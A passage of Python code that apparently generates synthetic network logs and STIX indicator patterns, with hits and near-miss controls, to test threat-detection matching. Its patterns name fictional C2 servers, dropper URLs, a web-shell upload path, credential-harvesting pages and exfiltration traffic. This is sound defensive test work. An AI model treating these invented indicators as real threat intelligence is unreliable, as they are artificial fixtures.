        if c in "abcdef":
            return s[:i] + "abcdef"[("abcdef".index(c) + 1) % 6] + s[i + 1:]
        if c.isalpha():
            return s[:i] + ("a" if c != "a" else "b") + s[i + 1:]
    raise ValueError(s)


NT_DST = "network-traffic:dst_ref.value"
NT_SRC = "network-traffic:src_ref.value"
UA_PATH = "network-traffic:extensions.'http-request-ext'.request_header.'User-Agent'"
HTTP_METHOD = "network-traffic:extensions.'http-request-ext'.request_method"
HTTP_VALUE = "network-traffic:extensions.'http-request-ext'.request_value"


def multi_controls(P, fmt, file, mk, vals, rel):
    """The multi-record hits and their negative controls, for one file.

    mk(us, value) plants a record carrying one observable value; vals gives, per use,
    (object path, value) pairs. Returns nothing; registers indicators and records."""
    (pa, a), (pb, b), (pc, c), (pd, d), (pe, e), (pf, f), (pg, g), (ph, h), (pi_, i_), (pj, j) = vals
    # FOLLOWEDBY within 60 s, in order: a hit on the second record
    t = P.at()
    ind = P.ind(fmt, "%s: staging then beacon" % fmt, "([%s = %s] FOLLOWEDBY [%s = %s]) WITHIN 60 SECONDS" % (pa, q(a), pb, q(b)),
                rel, comps=["[%s = %s]" % (pa, q(a)), "[%s = %s]" % (pb, q(b))])
    e1, e2 = mk(t, a), mk(P.jitter(t + 25 * US), b)
    P.hit(ind, [e1, e2], [a, b])
    # FOLLOWEDBY reversed: no hit
    t = P.at()
    ind = P.ind(fmt, "%s: loader then payload" % fmt, "([%s = %s] FOLLOWEDBY [%s = %s]) WITHIN 60 SECONDS" % (pc, q(c), pd, q(d)),
                rel, comps=["[%s = %s]" % (pc, q(c)), "[%s = %s]" % (pd, q(d))])
    P.neg(ind, "followedby-reversed", [mk(t, d), mk(P.jitter(t + 20 * US), c)], False)
    # FOLLOWEDBY in order but 150 s apart: outside WITHIN 60 SECONDS, no hit
    t = P.at()
    ind = P.ind(fmt, "%s: dropper then persistence" % fmt, "([%s = %s] FOLLOWEDBY [%s = %s]) WITHIN 60 SECONDS" % (pe, q(e), pf, q(f)),
                rel, comps=["[%s = %s]" % (pe, q(e)), "[%s = %s]" % (pf, q(f))])
    P.neg(ind, "followedby-outside-within", [mk(t, e), mk(P.jitter(t + 150 * US), f)], False)
    # REPEATS 3 TIMES WITHIN 300 SECONDS: exactly three records, a hit on the third
    t = P.at()
    ind = P.ind(fmt, "%s: periodic beacon" % fmt, "[%s = %s] REPEATS 3 TIMES WITHIN 300 SECONDS" % (pg, q(g)),
                rel, comps=["[%s = %s]" % (pg, q(g))])
    P.hit(ind, [mk(t, g), mk(P.jitter(t + 95 * US), g), mk(P.jitter(t + 190 * US), g)], [g])
    # REPEATS with only two records: no hit
    t = P.at()
    ind = P.ind(fmt, "%s: heartbeat" % fmt, "[%s = %s] REPEATS 3 TIMES WITHIN 300 SECONDS" % (ph, q(h)),
                rel, comps=["[%s = %s]" % (ph, q(h))])
    P.neg(ind, "repeats-only-two", [mk(t, h), mk(P.jitter(t + 100 * US), h)], False)
    # [x] AND [y] in two records hours apart: a hit on the later
    t = P.at(2, 20)
    ind = P.ind(fmt, "%s: two-stage toolkit" % fmt, "[%s = %s] AND [%s = %s]" % (pi_, q(i_), pj, q(j)),
                rel, comps=["[%s = %s]" % (pi_, q(i_)), "[%s = %s]" % (pj, q(j))])
    P.hit(ind, [mk(t, i_), mk(P.jitter(t + int(3.5 * 3600) * US), j)], [i_, j])


def lifecycle_controls(P, fmt, mk, path, values, rel):
    """valid_until, valid_from after the logs, revoked, superseded: values is 5 distinct values."""
    v_until, v_future, v_revoked, v_old, v_new = values
    ind = P.ind(fmt, "%s: expired infrastructure" % fmt, "[%s = %s]" % (path, q(v_until)), rel,
                valid_until=iso(VALID_UNTIL_US, 3))
    P.hit(ind, mk(P.jitter(VALID_UNTIL_US - 20 * 60 * US), v_until), [v_until])
    P.neg(ind, "after-valid-until", mk(P.jitter(VALID_UNTIL_US + 20 * 60 * US), v_until), True)
    ind = P.ind(fmt, "%s: published after the activity" % fmt, "[%s = %s]" % (path, q(v_future)), rel,
                valid_from=FUTURE_VALID_FROM)
    P.hit(ind, mk(P.at(), v_future), [v_future])
    ind = P.ind(fmt, "%s: withdrawn (false positive)" % fmt, "[%s = %s]" % (path, q(v_revoked)), rel, revoked=True)
    P.neg(ind, "revoked", mk(P.at(), v_revoked), True)
    ind = P.ind(fmt, "%s: corrected infrastructure" % fmt, "[%s = %s]" % (path, q(v_new)), rel,
                old_pattern="[%s = %s]" % (path, q(v_old)))
    P.neg(ind, "superseded-version", mk(P.at(), v_old), True, "[%s = %s]" % (path, q(v_old)))
    P.hit(ind, mk(P.at(), v_new), [v_new])


def plan_zeek(P):
    F = "zeek"
    C, D, H, S, X, FI = "zeek/conn.log", "zeek/dns.log", "zeek/http.log", "zeek/ssl.log", "zeek/x509.log", "zeek/files.log"

    def conn_to(us, ip, port=443, service="ssl", **kw):
        return P.ev(C, us, zeek_conn, resp_h=ip, resp_p=port, proto="tcp", service=service, state="SF", **kw)

    a1 = P.ip4()
    i = P.ind(F, "Cobalt Heron C2 server (Zeek)", "[%s = %s]" % (NT_DST, q(a1)), ["CH", "HR"])
    P.hit(i, conn_to(P.at(), a1), [a1])
    P.hit(i, P.ev(S, P.at(), zeek_ssl, resp_h=a1, server_name="cdn-cache-%d.%s" % (7, "akamai.net")), [a1])
    a2 = P.ip4("198.51.100")
    i = P.ind(F, "Quiet Marten SSH scanner", "[ipv4-addr:value = %s]" % q(a2), ["QM"])
    P.hit(i, P.ev(C, P.at(), zeek_conn, orig_h=a2, resp_h="10.10.0.20", resp_p=22, proto="tcp", service="ssh", state="SF"), [a2])
    a3 = P.ip4("198.51.100")
    i = P.ind(F, "VPN brute-force source", "[%s = %s]" % (NT_SRC, q(a3)), ["QM"])
    P.hit(i, P.ev(C, P.at(), zeek_conn, orig_h=a3, resp_h="10.10.0.25", resp_p=443, proto="tcp", service="ssl", state="SF"), [a3])
    a4 = P.ip6()
    i = P.ind(F, "Glass Wren IPv6 relay", "[ipv6-addr:value = %s]" % q(a4), ["GW"])
    P.hit(i, conn_to(P.at(), a4, orig_h="fd12:3456:789a:1:20c:29ff:fe4d:1a2b"), [a4])
    a5 = P.ip4()
    i = P.ind(F, "HOLLOWREED alternate port", "[%s = %s AND network-traffic:dst_port = 8443]" % (NT_DST, q(a5)), ["HR"])
    P.hit(i, conn_to(P.at(), a5, port=8443, service=None), [a5, 8443])
    P.neg(i, "near-miss-port", conn_to(P.at(), a5, port=443), False)
    i = P.ind(F, "Cobalt Heron hosting block", "[ipv4-addr:value ISSUBSET '192.0.2.16/28']", ["CH"])
    P.hit(i, conn_to(P.at(), "192.0.2.21"), ["192.0.2.21"])
    P.neg(i, "near-miss-cidr", conn_to(P.at(), "192.0.2.32"), False)
    i = P.ind(F, "Bulk upload to exfiltration block over TLS",
              "[network-traffic:dst_ref.value ISSUBSET '192.0.2.208/28' AND network-traffic:src_byte_count > 50000000 "
              "AND network-traffic:protocols[*] = 'ssl']", ["GW", "OI"])
    P.hit(i, conn_to(P.at(), "192.0.2.210", orig_bytes=734003200, resp_bytes=81234), ["192.0.2.210", 734003200])
    P.neg(i, "near-miss-bytes", conn_to(P.at(), "192.0.2.211", orig_bytes=48213, resp_bytes=5120), False)

    # dns.log
    dom = "update.cdn-sync.top"
    i = P.ind(F, "Fake update domain", "[domain-name:value = %s]" % q(dom), ["PK"])
    P.hit(i, P.ev(D, P.at(), zeek_dns, query=dom, answers=["198.51.100.250"]), [dom])
    P.neg(i, "near-miss-value", P.ev(D, P.at(), zeek_dns, query=near(dom), answers=["198.51.100.252"]), False)
    a13 = P.ip4()
    i = P.ind(F, "Domain resolving to HOLLOWREED C2", "[domain-name:resolves_to_refs[*].value = %s]" % q(a13), ["HR"])
    P.hit(i, P.ev(D, P.at(), zeek_dns, query="mirror.softupdate-check.net", answers=["edge.softupdate-check.net", a13]), [a13])
    cname = "relay.inkwell-cdn.xyz"
    i = P.ind(F, "Operation Inkwell CNAME target", "[domain-name:resolves_to_refs[*].value = %s]" % q(cname), ["OI", "GW"])
    P.hit(i, P.ev(D, P.at(), zeek_dns, query="assets.glasswren-partners.com", answers=[cname, "198.51.100.254"]), [cname])
    i = P.ind(F, "Dynamic relay subdomains", "[domain-name:value LIKE '%.dyn-relay.biz']", ["CH"])
    P.hit(i, P.ev(D, P.at(), zeek_dns, query="a9f3k2.dyn-relay.biz", answers=["198.51.100.248"]), ["a9f3k2.dyn-relay.biz"])

    def dnsq(us, v):
        return P.ev(D, us, zeek_dns, query=v, answers=["198.51.100.246"])
    multi_controls(P, F, D, dnsq, [("domain-name:value", v) for v in (
        "stage1.cobaltheron.top", "stage2.cobaltheron.top", "pre.cobaltheron.xyz", "post.cobaltheron.xyz",
        "init.cobaltheron.biz", "done.cobaltheron.biz", "beacon.quietmarten.top", "tick.quietmarten.top",
        "kit-a.cobaltheron.su", "kit-b.cobaltheron.su")], ["CH"])
    lifecycle_controls(P, F, dnsq, "domain-name:value",
                       ["old-c2.quietmarten.biz", "sleeper.quietmarten.click", "revoked.paperkite.top",
                        "typo.paperkite.top", "fixed.paperkite.top"], ["QM"])

    # http.log
    dom = "cdn.paperkite.xyz"
    i = P.ind(F, "PAPERKITE download host", "[domain-name:value = %s]" % q(dom), ["PK"])
    P.hit(i, P.ev(H, P.at(), zeek_http, host=dom, uri="/assets/app.js"), [dom])
    url = "http://files.hollowreed.biz/dl/invoice_0342.exe"
    i = P.ind(F, "HOLLOWREED dropper URL", "[url:value = %s]" % q(url), ["HR"])
    P.hit(i, P.ev(H, P.at(), zeek_http, host="files.hollowreed.biz", uri="/dl/invoice_0342.exe", mime="application/x-dosexec"), [url])
    url = "http://sync.glasswren.top:8080/api/v2/checkin"
    i = P.ind(F, "Glass Wren check-in URL (port 8080)", "[url:value = %s]" % q(url), ["GW"])
    P.hit(i, P.ev(H, P.at(), zeek_http, host="sync.glasswren.top", uri="/api/v2/checkin", resp_p=8080, method="POST"), [url])
    P.neg(i, "near-miss-port-80", P.ev(H, P.at(), zeek_http, host="sync.glasswren.top", uri="/api/v2/checkin", resp_p=80), False)
    url = "http://198.51.100.140:8080/gate.php?id=7731"
    i = P.ind(F, "Gate on a bare address", "[url:value = %s]" % q(url), ["QM"])
    P.hit(i, P.ev(H, P.at(), zeek_http, host="198.51.100.140", resp_h="198.51.100.140", uri="/gate.php?id=7731", resp_p=8080), [url])
    i = P.ind(F, "Address entered as a domain name", "[domain-name:value = '198.51.100.142']", [])
    P.neg(i, "address-host-is-not-a-domain",
          P.ev(H, P.at(), zeek_http, host="198.51.100.142", resp_h="198.51.100.142", uri="/index.php"), False)
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) HollowReed/3.2"
    i = P.ind(F, "HOLLOWREED user agent", "[%s = %s]" % (UA_PATH, q(ua)), ["HR", "CH"])
    P.hit(i, P.ev(H, P.at(), zeek_http, user_agent=ua), [ua])
    i = P.ind(F, "Inkwell image beacons",
              "[url:value MATCHES '^http://img[0-9]+\\\\.inkwell-cdn\\\\.xyz/[0-9a-f]{16}\\\\.png$']", ["OI"])
    P.hit(i, P.ev(H, P.at(), zeek_http, host="img3.inkwell-cdn.xyz", uri="/9f2c4e1a7b3d5e60.png"),
          ["http://img3.inkwell-cdn.xyz/9f2c4e1a7b3d5e60.png"])
    P.neg(i, "near-miss-regex", P.ev(H, P.at(), zeek_http, host="img4.inkwell-cdn.xyz", uri="/9f2c4e1a7b3d5e6.png"), False)
    uri = "/wp-content/plugins/wpdiscuz/themes/default/style.php"
    i = P.ind(F, "wpDiscuz web shell upload", "[%s = 'POST' AND %s = %s]" % (HTTP_METHOD, HTTP_VALUE, q(uri)), [])
    P.hit(i, P.ev(H, P.at(), zeek_http, host="intranet-blog.contoso.com", resp_h="10.10.0.44", uri=uri, method="POST"), ["POST", uri])
    P.neg(i, "near-miss-method", P.ev(H, P.at(), zeek_http, host="intranet-blog.contoso.com", resp_h="10.10.0.44", uri=uri, method="GET"), False)
    # a Host header naming its port: the URL has it once, the domain name not at all
    dom = "relay.glasswren.click"
    url = "http://%s:8080/api/upload" % dom
    e = P.ev(H, P.at(), zeek_http, host=dom + ":8080", uri="/api/upload", resp_p=8080, method="POST")
    i = P.ind(F, "Glass Wren relay upload URL (Host with its port)", "[url:value = %s]" % q(url), ["GW"])
    P.hit(i, e, [url])
    i = P.ind(F, "Glass Wren relay host", "[domain-name:value = %s]" % q(dom), ["GW"])
    P.hit(i, e, [dom])

    # ssl.log
    dom = "login.quietmarten.xyz"
    i = P.ind(F, "Quiet Marten phishing login (TLS)", "[domain-name:value = %s]" % q(dom), ["QM"])
    P.hit(i, P.ev(S, P.at(), zeek_ssl, server_name=dom), [dom])

    # x509.log
    fp = P.hx(32)
    i = P.ind(F, "Cobalt Heron certificate (SHA-256)", "[x509-certificate:hashes.'SHA-256' = %s]" % q(fp), ["CH"])
    P.hit(i, P.ev(X, P.at(), zeek_x509, fingerprint=fp), [fp])
    serial = P.hx(16).upper()  # as Zeek writes it; indicators use MAPPING.md's form
    i = P.ind(F, "HOLLOWREED certificate serial", "[x509-certificate:serial_number = %s]" % q(stix_serial(serial)), ["HR"])
    P.hit(i, P.ev(X, P.at(), zeek_x509, serial=serial), [stix_serial(serial)])
    subj = "CN=sync.glasswren.top,O=Glass Wren Holdings Ltd,C=SC"
    i = P.ind(F, "Glass Wren certificate subject", "[x509-certificate:subject LIKE '%O=Glass Wren Holdings%']", ["GW"])
    P.hit(i, P.ev(X, P.at(), zeek_x509, subject=subj, san=["sync.glasswren.top"]), [subj])
    dom = "mail.cobaltheron.biz"
    i = P.ind(F, "Cobalt Heron mail server (certificate SAN)", "[domain-name:value = %s]" % q(dom), ["CH"])
    P.hit(i, P.ev(X, P.at(), zeek_x509, san=["webmail.cobaltheron.biz", dom]), [dom])

    # files.log
    for algo, key, n in (("MD5", "md5", 16), ("SHA-1", "sha1", 20), ("SHA-256", "sha256", 32)):
        h = P.hx(n)
        path = "file:hashes.%s" % (algo if algo == "MD5" else "'%s'" % algo)
        i = P.ind(F, "HOLLOWREED sample (%s)" % algo, "[%s = %s]" % (path, q(h)), ["HR"])
        P.hit(i, P.ev(FI, P.at(), zeek_files, mime="application/x-dosexec", **{key: h}), [h])
        if algo == "SHA-256":
            P.neg(i, "near-miss-hash", P.ev(FI, P.at(), zeek_files, sha256=near(h)), False)
    i = P.ind(F, "PAPERKITE side-loaded DLL", "[file:name = 'svchost32.dll' AND file:size = 73728]", ["PK"])
    P.hit(i, P.ev(FI, P.at(), zeek_files, filename="svchost32.dll", size=73728, mime="application/x-dosexec"), ["svchost32.dll", 73728])
    P.neg(i, "near-miss-size", P.ev(FI, P.at(), zeek_files, filename="svchost32.dll", size=73729, mime="application/x-dosexec"), False)


def plan_suricata(P):
    F = "suricata"
    E = "suricata/eve.json"

    def flow_to(us, ip, port=443, **kw):
        return P.ev(E, us, eve_flow, dst=ip, dport=port, app_proto=kw.pop("app_proto", "tls"), **kw)

    b1 = P.ip4()
    i = P.ind(F, "Cobalt Heron C2 server (Suricata)", "[%s = %s]" % (NT_DST, q(b1)), ["CH"])
    P.hit(i, flow_to(P.at(), b1), [b1])
    P.hit(i, P.ev(E, P.at(), eve_alert, dst=b1, dport=443, sig=(2034567, "ET MALWARE Observed Malicious SSL Cert (Cobalt Heron CnC)",
                                                                 "Domain Observed Used for C2 Detected", 1), app_proto="tls"), [b1])
    b2 = P.ip4("198.51.100")
    i = P.ind(F, "Scanner (Suricata)", "[ipv4-addr:value = %s]" % q(b2), ["QM"])
    P.hit(i, P.ev(E, P.at(), eve_flow, src=b2, dst="10.10.0.31", dport=22, app_proto="ssh"), [b2])
    b3 = P.ip4("198.51.100")
    i = P.ind(F, "RDP intrusion source", "[%s = %s AND network-traffic:dst_port = 3389]" % (NT_SRC, q(b3)), ["CH"])
    P.hit(i, P.ev(E, P.at(), eve_flow, src=b3, dst="10.10.0.30", dport=3389, app_proto="rdp"), [b3, 3389])
    P.neg(i, "near-miss-port", P.ev(E, P.at(), eve_flow, src=b3, dst="10.10.0.30", dport=22, app_proto="ssh"), False)
    b4 = P.ip6()
    i = P.ind(F, "IPv6 C2 (Suricata)", "[%s = %s]" % (NT_DST, q(b4)), ["GW"])
    P.hit(i, P.ev(E, P.at(), eve_flow, src="fd12:3456:789a:1:a8c1:2bff:fe3d:77", dst=b4, dport=443, app_proto="tls"), [b4])
    i = P.ind(F, "Quiet Marten hosting block", "[%s ISSUBSET '192.0.2.48/28']" % NT_DST, ["QM"])
    P.hit(i, flow_to(P.at(), "192.0.2.53"), ["192.0.2.53"])
    P.neg(i, "near-miss-cidr", flow_to(P.at(), "192.0.2.64"), False)
    b6 = P.ip4()
    i = P.ind(F, "Large staging download", "[%s = %s AND network-traffic:dst_byte_count > 10000000]" % (NT_DST, q(b6)), ["PK"])
    P.hit(i, flow_to(P.at(), b6, toclient=48211456), [b6, 48211456])
    P.neg(i, "near-miss-bytes", flow_to(P.at(), b6, toclient=9000), False)

    # dns
    dom = "ns1.hollowreed.top"
    i = P.ind(F, "HOLLOWREED name server", "[domain-name:value = %s]" % q(dom), ["HR"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname=dom, version=1, qtype_event="query"), [dom])
    b8 = P.ip4()
    i = P.ind(F, "Resolution to PAPERKITE host (v1 answer)", "[domain-name:resolves_to_refs[*].value = %s]" % q(b8), ["PK"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname="get.fileshare-mirror.net", version=1, qtype_event="answer", answers=[("A", b8)]), [b8])
    b9 = P.ip4()
    i = P.ind(F, "Resolution to Glass Wren host (v2 answers)", "[domain-name:resolves_to_refs[*].value = %s]" % q(b9), ["GW"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname="www.travel-advisories.org", version=2, qtype_event="answer",
                  answers=[("CNAME", "edge.travel-advisories.org"), ("A", b9)]), [b9])
    b10 = P.ip6()
    i = P.ind(F, "Resolution to IPv6 C2 (v2 grouped)", "[domain-name:resolves_to_refs[*].value = %s]" % q(b10), ["CH"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname="api.weather-sync.io", version=2, qtype_event="answer", rrtype="AAAA",
                  answers=[("AAAA", b10)], grouped=True), [b10])
    dom = "cfg.paperkite.biz"
    i = P.ind(F, "PAPERKITE configuration host", "[domain-name:value = %s]" % q(dom), ["PK"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname=dom, version=2, qtype_event="answer", answers=[("A", "203.0.113.250")]), [dom])
    i = P.ind(F, "DNS tunnelling", "[domain-name:value MATCHES '^[a-z0-9]{24,}\\\\.tunnel-ops\\\\.top$']", ["QM"])
    tun = "k3j9d8s7f6g5h4j3k2l1m0n9.tunnel-ops.top"
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname=tun, version=1, qtype_event="query", rrtype="TXT"), [tun])
    P.neg(i, "near-miss-regex", P.ev(E, P.at(), eve_dns, rrname="k3j9d8s7f6g5h4j3k2l1m0n.tunnel-ops.top", version=1,
                                     qtype_event="query", rrtype="TXT"), False)

    # http
    dom = "portal.glasswren.biz"
    i = P.ind(F, "Glass Wren portal", "[domain-name:value = %s]" % q(dom), ["GW", "OI"])
    P.hit(i, P.ev(E, P.at(), eve_http, hostname=dom, url="/"), [dom])
    url = "http://dl.paperkite.top/payload/stage2.bin"
    i = P.ind(F, "PAPERKITE stage 2", "[url:value = %s]" % q(url), ["PK"])
    P.hit(i, P.ev(E, P.at(), eve_http, hostname="dl.paperkite.top", url="/payload/stage2.bin"), [url])
    url = "http://edge.quietmarten.top:8088/c/poll?sid=41"
    i = P.ind(F, "Quiet Marten poll URL (port 8088)", "[url:value = %s]" % q(url), ["QM"])
    P.hit(i, P.ev(E, P.at(), eve_http, hostname="edge.quietmarten.top", url="/c/poll?sid=41", dport=8088), [url])
    P.neg(i, "near-miss-port-80", P.ev(E, P.at(), eve_http, hostname="edge.quietmarten.top", url="/c/poll?sid=41", dport=80), False)
    ua = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1) PaperKite/1.0"
    i = P.ind(F, "PAPERKITE user agent", "[%s = %s]" % (UA_PATH, q(ua)), ["PK"])
    P.hit(i, P.ev(E, P.at(), eve_http, ua=ua), [ua])
    i = P.ind(F, "OWA credential harvesting page", "[url:value LIKE 'http://%/owa/auth/%.aspx']", ["GW"])
    P.hit(i, P.ev(E, P.at(), eve_http, hostname="mail.fabrikam-partners.com", url="/owa/auth/logon2.aspx"),
          ["http://mail.fabrikam-partners.com/owa/auth/logon2.aspx"])

    # tls
    dom = "vpn.cobaltheron.top"
    i = P.ind(F, "Cobalt Heron VPN lure (SNI)", "[domain-name:value = %s]" % q(dom), ["CH"])
    P.hit(i, P.ev(E, P.at(), eve_tls, sni=dom), [dom])
    fp = P.hx(20)
    i = P.ind(F, "Quiet Marten certificate (SHA-1)", "[x509-certificate:hashes.'SHA-1' = %s]" % q(fp), ["QM"])
    P.hit(i, P.ev(E, P.at(), eve_tls, fingerprint=":".join(fp[k:k + 2] for k in range(0, 40, 2))), [fp])
    # as Suricata writes a DER integer whose first byte has its high bit set: 00:8x:...
    b = bytearray(bytes.fromhex(P.hx(16)))
    b[0] |= 0x80
    serial = "00:" + ":".join("%02X" % x for x in b)
    i = P.ind(F, "HOLLOWREED certificate serial (Suricata)", "[x509-certificate:serial_number = %s]" % q(stix_serial(serial)), ["HR"])
    P.hit(i, P.ev(E, P.at(), eve_tls, serial=serial), [stix_serial(serial)])
    # one certificate seen by both sensors: Zeek writes its serial 9A0F..., Suricata 00:9A:0F:...
    b = bytearray(bytes.fromhex(P.hx(16)))
    b[0] |= 0x80
    serial = stix_serial(b.hex())
    i = P.ind(F, "Glass Wren certificate serial (both sensors)", "[x509-certificate:serial_number = %s]" % q(serial), ["GW"])
    P.hit(i, P.ev(E, P.at(), eve_tls, serial="00:" + ":".join("%02X" % x for x in b)), [serial])
    P.hit(i, P.ev("zeek/x509.log", P.at(), zeek_x509, serial=b.hex().upper()), [serial])
    issuer = "C=PA, O=CH Trust Services, CN=Cobalt Heron Root CA"
    i = P.ind(F, "Cobalt Heron private CA", "[x509-certificate:issuer = %s]" % q(issuer), ["CH"])
    P.hit(i, P.ev(E, P.at(), eve_tls, issuer=issuer), [issuer])

    # fileinfo
    for algo, key, n in (("MD5", "md5", 16), ("SHA-1", "sha1", 20), ("SHA-256", "sha256", 32)):
        h = P.hx(n)
        path = "file:hashes.%s" % (algo if algo == "MD5" else "'%s'" % algo)
        i = P.ind(F, "PAPERKITE sample (%s)" % algo, "[%s = %s]" % (path, q(h)), ["PK"])
        P.hit(i, P.ev(E, P.at(), eve_fileinfo, **{key: h}), [h])
        if algo == "MD5":
            P.neg(i, "near-miss-hash", P.ev(E, P.at(), eve_fileinfo, md5=near(h)), False)
    # an upload (client -> server:80): MAPPING.md's url rule takes the port from dest_port,
    # which is the server's only for files going to the server
    url = "http://share.glasswren.xyz/upload/brief.docx"
    i = P.ind(F, "Glass Wren drop URL", "[url:value = %s]" % q(url), ["GW", "OI"])
    P.hit(i, P.ev(E, P.at(), eve_fileinfo, hostname="share.glasswren.xyz", url="/upload/brief.docx", upload=True), [url])
    # a download from port 8080: the event goes server -> client, so dest_port is the client's;
    # the URL's port is http.http_port
    url = "http://dl.glasswren.click:8080/pkg/update.msi"
    i = P.ind(F, "Glass Wren package URL (download from port 8080)", "[url:value = %s]" % q(url), ["GW"])
    P.hit(i, P.ev(E, P.at(), eve_fileinfo, hostname="dl.glasswren.click", url="/pkg/update.msi", dport=8080), [url])
    # DNS v3 (Suricata 8): queries in a list, answers in the response
    dom = "sync.paperkite.su"
    i = P.ind(F, "PAPERKITE sync host (DNS v3 request)", "[domain-name:value = %s]" % q(dom), ["PK"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname=dom, version=3, qtype_event="query"), [dom])
    b11 = P.ip4()
    i = P.ind(F, "Resolution to PAPERKITE host (v3 response)", "[domain-name:resolves_to_refs[*].value = %s]" % q(b11), ["PK"])
    P.hit(i, P.ev(E, P.at(), eve_dns, rrname="static.news-mirror.org", version=3, qtype_event="answer",
                  answers=[("CNAME", "edge.news-mirror.org"), ("A", b11)]), [b11])

    def q1(us, v):
        return P.ev(E, us, eve_dns, rrname=v, version=1, qtype_event="query")
    multi_controls(P, F, E, q1, [("domain-name:value", v) for v in (
        "first.hollowreed.biz", "second.hollowreed.biz", "alpha.hollowreed.click", "omega.hollowreed.click",
        "drop.hollowreed.su", "persist.hollowreed.su", "hb.hollowreed.xyz", "pulse.hollowreed.xyz",
        "tool-a.hollowreed.top", "tool-b.hollowreed.top")], ["HR"])
    # FOLLOWEDBY across event types: a flow to the staging address, then a TLS session to the exfiltration name
    b26 = P.ip4()
    t = P.at()
    i = P.ind(F, "Staging then exfiltration", "([%s = %s] FOLLOWEDBY [domain-name:value = 'exfil.glasswren.top']) WITHIN 60 SECONDS"
              % (NT_DST, q(b26)), ["GW"], comps=["[%s = %s]" % (NT_DST, q(b26)), "[domain-name:value = 'exfil.glasswren.top']"])
    P.hit(i, [flow_to(t, b26), P.ev(E, P.jitter(t + 30 * US), eve_tls, sni="exfil.glasswren.top")], [b26, "exfil.glasswren.top"])
    lifecycle_controls(P, F, q1, "domain-name:value",
                       ["old.glasswren.biz", "sleeper.glasswren.click", "revoked.glasswren.su", "typo.glasswren.xyz",
                        "fixed.glasswren.xyz"], ["GW"])


def plan_ecs(P):
    F = "ecs"
    E = "ecs/ecs.json"
    styles = ["nested", "dotted", "mixed"]
    k = [0]

    def ev(us, fn, **kw):
        k[0] += 1
        return P.ev(E, us, fn, style=styles[k[0] % 3], **kw)

    c1 = P.ip4()
    i = P.ind(F, "Cobalt Heron C2 server (ECS)", "[%s = %s]" % (NT_DST, q(c1)), ["CH"])
    P.hit(i, ev(P.at(), ecs_network, dst=c1, dport=443, protocol="ssl"), [c1])
    P.hit(i, ev(P.at(), ecs_network, dst=c1, dport=443, protocol="ssl"), [c1])
    c2 = P.ip4("198.51.100")
    i = P.ind(F, "Logon from attacker address", "[ipv4-addr:value = %s]" % q(c2), ["QM"])
    P.hit(i, ev(P.at(), ecs_auth, src=c2), [c2])
    c3 = P.ip6()
    i = P.ind(F, "IPv6 C2 (ECS)", "[ipv6-addr:value = %s]" % q(c3), ["GW"])
    P.hit(i, ev(P.at(), ecs_network, dst=c3, dport=443, protocol="ssl"), [c3])
    c4 = P.ip4()
    i = P.ind(F, "Alternate HTTPS port C2", "[%s = %s AND network-traffic:dst_port = 8443]" % (NT_DST, q(c4)), ["HR"])
    P.hit(i, ev(P.at(), ecs_network, dst=c4, dport=8443), [c4, 8443])
    P.neg(i, "near-miss-port", ev(P.at(), ecs_network, dst=c4, dport=443), False)
    i = P.ind(F, "Inbound from Glass Wren block", "[%s ISSUBSET '192.0.2.80/28']" % NT_SRC, ["GW"])
    P.hit(i, ev(P.at(), ecs_network, src="192.0.2.85", dst="10.10.0.25", dport=443, direction="inbound"), ["192.0.2.85"])
    P.neg(i, "near-miss-cidr", ev(P.at(), ecs_network, src="192.0.2.96", dst="10.10.0.25", dport=443, direction="inbound"), False)

    dom = "telemetry.hollowreed.su"
    i = P.ind(F, "HOLLOWREED telemetry domain", "[domain-name:value = %s]" % q(dom), ["HR"])
    P.hit(i, ev(P.at(), ecs_dns, name=dom, resolved=["198.51.100.244"]), [dom])
    P.neg(i, "near-miss-value", ev(P.at(), ecs_dns, name=near(dom), resolved=["198.51.100.242"]), False)
    c7 = P.ip4()
    i = P.ind(F, "Resolution to PAPERKITE host (ECS)", "[domain-name:resolves_to_refs[*].value = %s]" % q(c7), ["PK"])
    P.hit(i, ev(P.at(), ecs_dns, name="cdn.photo-archive.org", resolved=["151.101.1.69", c7]), [c7])
    url = "https://docs.glasswren.top/share/Q3-budget.xlsm"
    i = P.ind(F, "Glass Wren lure (url.full)", "[url:value = %s]" % q(url), ["GW", "OI"])
    P.hit(i, ev(P.at(), ecs_http, full=url), [url])
    url = "http://update.paperkite.click/check?v=2.1.4"
    i = P.ind(F, "PAPERKITE update check (url.original)", "[url:value = %s]" % q(url), ["PK"])
    P.hit(i, ev(P.at(), ecs_http, original_only=url), [url])
    dom = "api.paperkite.click"
    i = P.ind(F, "PAPERKITE API host (url.domain)", "[domain-name:value = %s]" % q(dom), ["PK"])
    P.hit(i, ev(P.at(), ecs_http, full="https://api.paperkite.click/v1/status", domain=dom), [dom])
    # a web server's log: url.original is the path; the URL is made whole from url.domain and the port
    url = "https://wiki.glasswren.biz/pages/viewpage.action?pageId=7731"
    i = P.ind(F, "Glass Wren wiki page (url.original a path, port 443)", "[url:value = %s]" % q(url), ["GW"])
    P.hit(i, ev(P.at(), ecs_http, original_only="/pages/viewpage.action?pageId=7731", domain="wiki.glasswren.biz",
                dport=443), [url])
    url = "http://panel.quietmarten.biz:8081/admin/login.php"
    i = P.ind(F, "Quiet Marten panel (url.original a path, port 8081)", "[url:value = %s]" % q(url), ["QM"])
    P.hit(i, ev(P.at(), ecs_http, original_only="/admin/login.php", domain="panel.quietmarten.biz", dport=8081), [url])
    i = P.ind(F, "Web shell path written as a URL", "[url:value = '/aspnet_client/system_web/shell.aspx']", [])
    P.neg(i, "path-is-not-a-url", ev(P.at(), ecs_http, original_only="/aspnet_client/system_web/shell.aspx",
                                     domain="owa.contoso.com", dport=443), False)
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) QuietMarten/2.0"
    i = P.ind(F, "Quiet Marten implant user agent (ECS)", "[%s = %s]" % (UA_PATH, q(ua)), ["QM"])
    P.hit(i, ev(P.at(), ecs_http, ua=ua), [ua])

    for algo, key, n in (("MD5", "md5", 16), ("SHA-1", "sha1", 20), ("SHA-256", "sha256", 32)):
        h = P.hx(n)
